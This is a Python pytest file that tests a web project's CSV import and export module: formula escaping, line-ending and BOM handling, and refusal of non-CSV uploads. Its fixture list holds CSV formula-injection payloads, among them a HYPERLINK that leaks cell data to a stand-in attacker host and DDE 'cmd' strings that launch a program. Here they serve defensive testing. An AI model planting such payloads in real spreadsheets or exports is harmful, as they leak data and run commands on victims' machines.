"""The one way CSV is read and written (issue 11, findings 6 and 9): formulas neutralised in
every export, uploads read with any line ends, a BOM, and a 422 for what is not CSV text."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from paddock import csv_files
from paddock.errors import Invalid

SRC = Path(__file__).resolve().parents[1] / "src" / "paddock"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_written_as_text(cell: str) -> None:
    text = csv_files.to_text(["name"], [[cell]])
    assert read_back(text) == [["name"], ["'" + cell]]


def test_plain_text_and_our_numbers_are_left_alone() -> None:
    rows = [["Ann Lee", "a=b", "", None, -3, 2.5, Decimal("-0.25"), 0, "x-1"]]
    text = csv_files.to_text(["a", "b", "c", "d", "e", "f", "g", "h", "i"], rows)
    assert text.splitlines()[1] == "Ann Lee,a=b,,,-3,2.5,-0.25,0,x-1"


def test_text_that_looks_like_a_number_is_still_text() -> None:
    # A phone or a "-3" typed by someone is text: quoted like any other (Excel hides the quote,
    # and stops reading "+1 404 555 0101" as a sum).
    text = csv_files.to_text(["phone", "n"], [["+1 404 555 0101", "-3"]])
    assert read_back(text)[1] == ["'+1 404 555 0101", "'-3"]


def test_every_csv_in_the_product_goes_through_csv_files() -> None:
    """No module writes or reads CSV with the csv module itself, except the season calendar's
    parser, which is given text that csv_files.decode made and csv_files.checked read."""
    allowed = {SRC / "csv_files.py", SRC / "motorsport" / "engine" / "calendars.py"}
    direct = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path not in allowed
        and re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.M)
    ]
    assert direct == []


SAMPLE = ["name,email", "Ann Lee,ann@example.com", '"Lee, Bob",bob@example.com']


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"], ids=["LF", "CRLF", "CR"])
@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"], ids=["plain", "BOM"])
def test_any_line_end_and_a_bom_read_the_same(end: str, bom: bytes) -> None:
    data = bom + end.join(SAMPLE).encode() + end.encode()
    text = csv_files.decode(data)
    assert text == "\n".join(SAMPLE) + "\n"
    assert list(csv_files.rows(text)) == [
        ["name", "email"],
        ["Ann Lee", "ann@example.com"],
        ["Lee, Bob", "bob@example.com"],
    ]
    assert [r["name"] for r in csv_files.DictRows(text)] == ["Ann Lee", "Lee, Bob"]


def test_a_line_break_inside_quotes_survives() -> None:
    text = csv_files.decode(b'name,note\r"Ann","two\rlines"\r')
    assert list(csv_files.rows(text))[1] == ["Ann", "two\nlines"]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"name,email\nAnn \xe9 Lee,ann@example.com\n", "not UTF-8 text (byte 16, line 2)"),
        (b"name,email\rAnn,a@example.com\r\xff\r", "line 3"),
        (b"name,email\nAnn\x00,ann@example.com\n", "NUL character on line 2"),
        (b"PK\x03\x04\x14\x00\x06\x00", "an Excel workbook (.xlsx)"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Excel 97-2003 workbook"),
        (b"%PDF-1.7\n", "a PDF document"),
    ],
)
def test_what_is_not_csv_text_is_refused_saying_why(data: bytes, says: str) -> None:
    with pytest.raises(Invalid) as refused:
        csv_files.decode(data, what="invitees.csv")
    assert refused.value.status == 422
    assert refused.value.detail.startswith("invitees.csv ")
    assert says in refused.value.detail


def test_too_large_is_refused() -> None:
    with pytest.raises(Invalid, match="larger than 1 MB"):
        csv_files.decode(b"x" * 1_000_001, max_bytes=1_000_000)


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('name,email\nAnn,"ann@example.com\nBob,bob@example.com\n', "a quote is left open"),
        ('name,email\n"Ann"Lee,ann@example.com\n', "near line 2: text follows a closing quote"),
        ("name\n" + "x" * 200_000 + "\n", "a field is longer than 128 KB"),
    ],
)
def test_broken_csv_is_refused_naming_the_line(text: str, says: str) -> None:
    with pytest.raises(Invalid) as refused:
        list(csv_files.rows(text))
    assert says in refused.value.detail
    with pytest.raises(Invalid):
        list(csv_files.DictRows(text))


def test_checked_reads_every_record_strictly() -> None:
    assert csv_files.checked("a,b\n1,2\n") == "a,b\n1,2\n"
    with pytest.raises(Invalid, match="The calendar is not valid CSV near line 3: a quote is"):
        csv_files.checked('a,b\n1,2\n"3,4\n', what="The calendar")
